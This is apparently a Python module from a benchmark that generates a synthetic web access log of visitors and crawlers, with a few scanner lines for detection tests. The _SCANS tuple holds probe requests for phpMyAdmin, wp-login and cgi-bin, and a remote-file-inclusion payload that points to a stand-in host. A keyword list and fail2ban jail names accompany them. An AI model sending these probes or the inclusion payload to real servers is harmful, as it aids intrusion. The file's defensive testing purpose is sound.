"""The access log of a web server: people, robots, and in ten thousand lines three that a scanner wrote."""

from __future__ import annotations

import random
from collections.abc import Iterator
from typing import Final

from bench.attack import address
from bench.crowd import chooser
from bench.stamps import ACCESS, stamps

_WORDS: Final = "phpmyadmin|wp-login|/cgi-bin/|=http://|EmailCollector|\\x"
LITERALS: Final = _WORDS.split("|")
"""What a search for the same lines would look for."""

JAILS: Final = (
    "apache-badbots",
    "apache-botsearch",
    "nginx-botsearch",
    "nginx-bad-request",
    "nginx-http-auth",
    "php-url-fopen",
    "apache-auth",
    "apache-noscript",
    "apache-overflows",
    "apache-nohome",
    "apache-modsecurity",
    "apache-shellshock",
    "nginx-limit-req",
    "suhosin",
    "lighttpd-auth",
    "roundcube-auth",
    "openwebmail",
    "horde",
    "drupal-auth",
    "haproxy-http-auth",
)
"""Twenty jails of Debian's tree that an administrator might put on such a log, the six of everyday first."""

_FOLDERS: Final = ("articles", "blog", "images", "assets", "downloads", "docs", "projects", "news", "feeds")
_NAMES: Final = ("index", "install", "release-notes", "overview", "photo", "style", "main", "logo", "search")
_ENDS: Final = (".html", "/", ".png", ".css", ".js", ".jpg", ".pdf", "")
_BROWSERS: Final = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:129.0) Gecko/20100101 Firefox/129.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "FeedReader/3.2 (+https://reader.example/about)",
    "-",
)
_SHARES: Final = {"200": 9_126, "304": 445, "404": 213, "301": 164, "206": 45, "500": 3, "403": 2, "416": 2}
"""Answers in a public log of 10,000 lines."""

_SCANS: Final = (
    ("GET /phpmyadmin/index.php HTTP/1.1", 404, "Mozilla/5.0 zgrab/0.x"),
    ("POST /wp-login.php HTTP/1.1", 404, "Mozilla/5.0"),
    ("GET /cgi-bin/test.cgi HTTP/1.0", 404, "-"),
    ("GET /index.php?page=http://203.0.113.9/x.txt HTTP/1.1", 200, "libwww-perl/6.05"),
    ("GET /contact.html HTTP/1.1", 200, "EmailCollector"),
    (r"\x16\x03\x01\x02\x00\x01", 400, "-"),
)
_SCANNED: Final = 3 / 10_000
_REQUESTS: Final = 20
_EAGER: Final = 0.3
"""A scanner comes back so many times, and has such a share of the lines meanwhile."""


def lines(count: int, end: float, seed: int = 2) -> Iterator[str]:
    """Yield as many lines, the last one written at `end`; the same for the same arguments."""
    rng = random.Random(seed)
    statuses, draw = chooser(rng, _SHARES), rng.random
    base, scanner, left = seed * 1_000_000, "", 0
    for number, stamp in enumerate(stamps(count, end, ACCESS)):
        who = address(base + int(draw() ** 3 * (1_000 + number // 10)))
        if left and draw() < _EAGER:
            left -= 1
            request, status, agent = _SCANS[int(draw() * len(_SCANS))]
            yield f'{scanner} - - [{stamp}] "{request}" {status} 162 "-" "{agent}"\n'
            continue
        if draw() < _SCANNED / _REQUESTS:
            scanner, left = who, _REQUESTS
        folder, name = _FOLDERS[int(draw() * len(_FOLDERS))], _NAMES[int(draw() * len(_NAMES))]
        page = f"/{folder}/{name}-{int(draw() * 900)}{_ENDS[int(draw() * len(_ENDS))]}"
        agent = _BROWSERS[int(draw() ** 1.5 * len(_BROWSERS))]
        yield (
            f'{who} - - [{stamp}] "GET {page} HTTP/1.1" {statuses()} {int(draw() * 200_000)}'
            f' "https://www.example.org/{folder}/" "{agent}"\n'
        )
